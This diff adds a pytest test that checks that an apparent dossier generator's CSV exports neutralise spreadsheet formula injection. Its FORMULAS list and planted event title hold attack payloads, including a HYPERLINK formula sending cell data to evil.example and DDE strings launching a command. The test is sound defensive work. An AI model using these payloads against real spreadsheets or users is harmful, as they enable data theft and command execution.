@@ -181,3 +181,42 @@ def test_diagnostics_are_one_line_each_and_forge_nothing(valid_root: Path, where
         if fmt == "text":  # each diagnostic: one line, and its suggestion on the next
             report = [line for line in result.stderr.splitlines() if line and not line.startswith("    did you mean")]
             assert all(line.startswith("dossier/events/x") for line in report[:-1]) and "error" in report[-1], report
+
+
+# --- 6. spreadsheets ------------------------------------------------------------------------
+
+FORMULAS = ['=1+1', 'a;=HYPERLINK("https://evil.example/?"&A1;"x")', "prix, +cmd|' /C calc'!A0", "deux lignes\n=2+2",
+            'a;"@SUM(1)"', "tab\t-2+3", "x | =1", "y ;  =1", "@x", "+x", "-x"]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+def test_csv_cells_are_inert_however_a_spreadsheet_splits_them(valid_root: Path, delimiter: str) -> None:
+    import csv
+    import io
+
+    from dossiergen import pipeline
+    from dossiergen.config import Settings
+
+    summary = " ".join(FORMULAS).replace("\n", " ") + "\n\n" + "\n\n".join(FORMULAS)
+    event = ('title: "=cmd|\' /C calc\'!A0"\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: |-\n'
+             + "".join(f"  {line}\n" if line else "\n" for line in summary.split("\n")) + "sources: [agence-2021-rencontre]\n")
+    plant(valid_root, "events/formules.yaml", event)
+    settings = Settings.from_root(valid_root, today=TODAY)
+    files = pipeline.downloads(pipeline.check(settings), settings)
+    checked = 0
+    for path, data in files.items():
+        if path.suffix != ".csv":
+            continue
+        text = data.decode("utf-8-sig")
+        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+            for field in row:
+                for piece in field.split("\n"):  # a cell pasted elsewhere splits on its line breaks
+                    bare = piece.lstrip(" \"'") if not piece.lstrip(" \"").startswith("'") else ""
+                    try:
+                        float(bare)
+                        continue  # our own numbers (longitudes) stay numbers
+                    except ValueError:
+                        pass
+                    assert not bare[:1] or bare[0] not in "=+-@\t\r", (path, delimiter, piece)
+                    checked += 1
+    assert checked > 30
